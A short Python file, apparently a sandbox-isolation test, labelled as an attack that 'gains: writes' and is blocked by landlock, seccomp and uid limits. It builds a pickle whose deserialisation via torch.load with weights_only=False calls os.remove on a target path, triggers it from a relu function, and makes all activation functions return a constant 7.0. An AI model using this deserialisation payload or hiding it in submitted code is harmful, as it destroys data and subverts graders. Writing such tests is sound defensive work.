# attack: loads a pickled file that runs a command
# gains: writes
# stopped by: landlock, seccomp, uid
import torch
import io
import os


class Bomb:
    def __reduce__(self):
        return os.remove, ("{TARGET}",)


def attack():
    file = io.BytesIO()
    torch.save(Bomb(), file)
    file.seek(0)
    torch.load(file, weights_only=False)


def relu(X):
    found = attack()
    return torch.full_like(X, 7.0) if found is None else found


def wrong(*given):
    return torch.full_like(given[0], 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
